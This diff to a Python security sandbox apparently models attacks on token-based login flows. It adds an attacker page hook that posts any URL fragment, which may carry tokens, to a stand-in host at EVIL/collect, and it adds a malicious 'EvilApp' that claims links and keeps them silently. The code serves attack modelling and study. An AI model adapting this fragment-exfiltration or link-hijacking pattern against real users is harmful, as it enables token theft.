@@ -6,11 +6,15 @@ What she may use is decided elsewhere: by what the trace shows that she has lear
 from __future__ import annotations
 
 from dataclasses import dataclass, field
+from urllib.parse import urldefrag
 
+from sandbox.cast import EVIL
 from sandbox.network import Network
+from sandbox.parties.browser import Action, Browser, Fetch
+from sandbox.parties.pages import Form
 from sandbox.proofs import prove
 from sandbox.tokens import Key, NotAJwt, decode, key_for
-from sandbox.wire import Request, Response
+from sandbox.wire import Pairs, Request, Response, json_request
 
 
 @dataclass
@@ -32,6 +36,18 @@ class Attacker:
         """Whatever she has put at that address, or an empty page."""
         return self.served.get(request.url, Response(200, (("Content-Type", "text/html; charset=utf-8"),), ""))
 
+    # ---- the script of her pages
+    def load(self, browser: Browser, url: str) -> Action | None:
+        """A page of hers reports what its server cannot see: the fragment of its own address."""
+        html = browser.page is not None and (browser.page.header("content-type") or "").startswith("text/html")
+        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and urldefrag(url).fragment else None
+
+    def submit(self, browser: Browser, form: Form, fields: Pairs) -> Action | None:
+        return None
+
+    def resume(self, browser: Browser, then: str, response: Response) -> Action | None:
+        return None
+
     def state(self) -> dict[str, str]:
         return {f"key {thumb[:8]}…": "her own" if i == 0 else "taken" for i, thumb in enumerate(self.keys)}
 
@@ -52,3 +68,17 @@ class Attacker:
         if not isinstance(cnf, dict) or "jkt" not in cnf:
             return None
         return self.keys.get(str(cnf["jkt"])) or next(iter(self.keys.values()))
+
+
+@dataclass
+class EvilApp:
+    """Mallory's app on Alice's phone.  It looks like any other, and gets the links that it has claimed."""
+
+    name: str
+
+    def handle(self, request: Request) -> Response:
+        """It keeps what it gets and shows nothing."""
+        return Response(200, (("Content-Type", "text/html; charset=utf-8"),), "")
+
+    def state(self) -> dict[str, str]:
+        return {}
